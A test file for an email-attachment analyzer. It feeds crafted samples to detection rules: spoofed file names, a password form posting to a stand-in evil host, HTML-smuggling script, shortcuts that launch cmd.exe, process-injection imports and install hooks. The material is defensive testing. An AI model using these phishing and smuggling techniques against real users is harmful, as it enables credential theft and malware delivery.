/** Each analyzer by itself: objects on the left, rules on the right. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { buildImports, buildProgram } from '#formats/program/building.ts'
import { emptyKnowledge } from '../knowledge/knowledge.ts'
import { Reading } from '../reading.ts'
import { analyzers } from './index.ts'

interface Given {
  readonly name: string
  readonly type: string
  readonly text?: string
  readonly bytes?: Buffer
  readonly container?: string
  readonly declaredType?: string
  readonly isBody?: boolean
}

function rules({
  name,
  type,
  text = 'x',
  bytes = Buffer.from(text),
  container = 'mail.message',
  declaredType,
  isBody = false,
}: Given): string {
  const artifact = {
    id: '0/0',
    origin: 'mime-part',
    name,
    type,
    size: bytes.length,
    sha256: '',
    ...(declaredType ? { declaredType } : {}),
  } as const
  const reading = new Reading({ type, bytes })
  const view = { artifact, bytes, reading, isBody, container, knowledge: emptyKnowledge }
  const seen = analyzers.filter(({ accepts }) => accepts(type)).flatMap(({ analyze }) => analyze(view))
  return seen.map(({ rule, severity }) => `${rule} ${severity}`).join(', ')
}

test('names that lie', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['a.pdf.exe', 'executable.pe', 'name.double-extension high, attachment.runnable medium'],
    [
      `a.pdf${' '.repeat(30)}.scr`,
      'executable.pe',
      'name.double-extension high, name.padded high, attachment.runnable medium',
    ],
    ['a\u202efdp.exe', 'data.unknown', 'name.direction-override high'],
    [
      'a.jpg',
      'executable.elf',
      'type.executable-as-document high, type.extension-mismatch info, attachment.program low',
    ],
    [
      'a.pdf',
      'script.vbscript',
      'type.script-as-document medium, type.extension-mismatch info, attachment.runnable medium',
    ],
    ['report.2024.pdf', 'document.pdf', ''],
    ['a.tar.gz', 'archive.gzip', ''],
  ]
  for (const [name, type, wanted] of cases) assert.equal(rules({ name, type }), wanted, name)
})

test('what runs when opened, by where it lies', () => {
  assert.equal(rules({ name: 'a.js', type: 'script.jscript' }), 'attachment.runnable medium')
  assert.equal(rules({ name: 'a.js', type: 'script.jscript', isBody: true }), '')
  assert.equal(rules({ name: 'a.url', type: 'shortcut.url' }), 'attachment.runnable low')
})

test('pages: forms, smuggling, hidden text, redirection', () => {
  const page = (text: string, isBody = false): string =>
    rules({ name: isBody ? '' : 'a.html', type: 'document.html', text, isBody })
  const form = '<form action="http://evil.test/x"><input type=password></form>'
  assert.match(page(form), /html\.credential-form-away high/)
  assert.match(page(form, true), /html\.credential-form medium/)
  assert.match(page('<form><input name="card_number"><input name=cvv></form>'), /html\.card-form medium/)
  assert.equal(page('<form action="http://a.test/search"><input name="q"></form>'), 'html.form info')
  assert.match(
    page('<script>var b=new Blob([atob("x")]);a.href=URL.createObjectURL(b);a.download="x.zip"</script>'),
    /html\.smuggling high/,
  )
  assert.match(page(`<script>document.write(unescape("${'%41'.repeat(80)}"))</script>`), /html\.written-by-script low/)
  assert.match(page('<meta http-equiv=refresh content="0;url=http://a.test/">'), /html\.redirect low/)
  assert.match(page('<p style="display:none">twenty letters and more of it</p>', true), /html\.hidden-text info/)
  assert.equal(page('<p>Hello <a href="http://a.test/">there</a></p>', true), '')
})

/** A shell link with nothing but text fields. */
function shortcut(fields: { relative: string; arguments?: string; icon?: string }, appended = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(76)
  header.write('4c0000000114020000000000c000000000000046', 'hex')
  header.writeUInt32LE(8 | 128 | (fields.arguments === undefined ? 0 : 32) | (fields.icon === undefined ? 0 : 64), 20)
  const texts = [fields.relative, fields.arguments, fields.icon].filter((text) => text !== undefined)
  const written = texts.map((text) =>
    Buffer.concat([Buffer.from([text.length & 255, text.length >> 8]), Buffer.from(text, 'utf16le')]),
  )
  return Buffer.concat([header, ...written, Buffer.alloc(4), appended])
}

test('shortcuts: what they start and how they hide it', () => {
  const link = (...given: Parameters<typeof shortcut>): string =>
    rules({ name: 'a.lnk', type: 'shortcut.lnk', bytes: shortcut(...given), container: 'document.ole' })
  assert.equal(link({ relative: String.raw`..\report.docx` }), '')
  assert.equal(link({ relative: String.raw`..\cmd.exe` }), 'shortcut.interpreter-bare low')
  assert.equal(
    link({ relative: String.raw`..\cmd.exe`, arguments: '/c calc' }),
    'shortcut.arguments info, shortcut.interpreter high',
  )
  assert.match(link({ relative: 'x', arguments: `${' '.repeat(300)}/c calc` }), /shortcut\.long-arguments medium/)
  assert.match(
    link({ relative: String.raw`..\app.exe`, icon: String.raw`C:\office\winword.exe` }),
    /shortcut\.icon-of-document low/,
  )
  assert.match(
    link({ relative: 'x' }, Buffer.concat([Buffer.alloc(2_000), Buffer.from('<script>')])),
    /shortcut\.payload medium/,
  )
  assert.match(link({ relative: 'x' }, Buffer.alloc(2_000)), /shortcut\.appended low/)
})

test('scripts that hide their purpose', () => {
  const text = 'eval(String.fromCharCode(97,98))'
  assert.match(rules({ name: 'a.js', type: 'script.jscript', text, isBody: true }), /script\.obfuscated low/)
})

test('programs: what their headers tell', () => {
  const program = (given: Parameters<typeof buildProgram>[0]): string =>
    rules({ name: 'a.exe', type: 'executable.pe', bytes: buildProgram(given), container: 'document.ole' })
  const code = { name: '.text', data: Buffer.alloc(100), flags: 0x60000020 }
  assert.equal(program({ sections: [code] }), 'program.kind info')
  assert.match(
    program({ sections: [{ ...code, name: 'UPX0', flags: 0xe0000020 }, code] }),
    /program\.packed low, program\.odd-start low/,
  )
  assert.match(program({ sections: [code], directories: { 14: [0x1000, 72] } }), /program\.dotnet info/)
  assert.match(program({ sections: [code], behind: Buffer.alloc(5_000) }), /program\.overlay info/)
  const imports = buildImports({ 'KERNEL32.dll': ['WriteProcessMemory', 'CreateRemoteThread'] }, 0x2000)
  const injecting = { sections: [code, { name: '.idata', data: imports }], directories: { 1: [0x2000, 40] as const } }
  assert.match(program(injecting), /program\.imports info.*program\.injection low/)
  assert.equal(
    rules({ name: 'a.exe', type: 'executable.pe', text: 'x'.repeat(100), container: 'document.ole' }),
    'program.damaged info',
  )
  assert.equal(rules({ name: 'a.elf', type: 'executable.elf' }), 'attachment.program low')
})

test('packages: what they run when they are installed', () => {
  const text = JSON.stringify({ scripts: { test: 'x', postinstall: 'node run.js' } })
  assert.equal(rules({ name: 'p/package.json', type: 'text.plain', text }), 'package.install-script low')
  assert.equal(rules({ name: 'package.json', type: 'text.plain', text: '{"scripts":[' }), '')
  assert.equal(rules({ name: 'p/setup.py', type: 'script.python' }), 'package.setup-script info')
})

test('every analyzer says who it is and what it tells as facts', () => {
  assert.equal(new Set(analyzers.map(({ name }) => name)).size, analyzers.length)
  for (const { version, timeout, facts } of analyzers) assert.ok(version !== '' && timeout > 0 && Array.isArray(facts))
})
